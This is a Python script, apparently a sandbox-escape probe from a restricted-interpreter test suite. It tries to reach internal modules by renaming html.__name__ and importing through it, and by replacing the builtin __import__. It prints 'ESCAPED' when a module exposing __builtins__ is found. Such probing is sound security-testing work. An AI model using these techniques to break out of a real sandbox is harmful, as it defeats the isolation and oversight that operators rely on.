# attack: when `from a import b` finds no b in a, the interpreter itself takes the loaded module a.b; a is whatever __import__
# gave, under whatever name it bears
# stopped by: nothing
import asyncio
import html
import json
import re
import types


def look(found):
    if not isinstance(found, types.ModuleType):
        return
    names = vars(found)
    if any(names.get(hook) is not None for hook in ("__builtins__", "__loader__", "__spec__")):
        print("ESCAPED", found, names.get("__builtins__"))


try:
    from json import scanner
    look(scanner)
except ImportError as error:
    assert str(error).startswith("cannot import name 'scanner' from 'json'"), error
try:
    from re import _compiler
    look(_compiler)
except ImportError:
    pass
try:
    asyncio.run(asyncio.sleep(0))
    from asyncio import loop
    look(loop)
except ImportError:
    pass
for name in ("importlib", "os", "collections", "encodings", "json", "xml.etree", "pathlib"):
    html.__name__ = name
    try:
        from html import machinery
        look(machinery)
    except ImportError:
        pass
    try:
        from html import path
        look(path)
    except ImportError:
        pass
    try:
        from html import abc
        look(abc)
    except ImportError:
        pass
    try:
        from html import utf_8
        look(utf_8)
    except ImportError:
        pass
    try:
        from html import scanner
        look(scanner)
    except ImportError:
        pass
    try:
        from html import _os
        look(_os)
    except ImportError:
        pass

# An importer of the script's own hands back anything at all.
own = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
own["__import__"] = lambda *args: types.SimpleNamespace(__name__="json")
try:
    from anything import scanner
    look(scanner)
except ImportError:
    pass
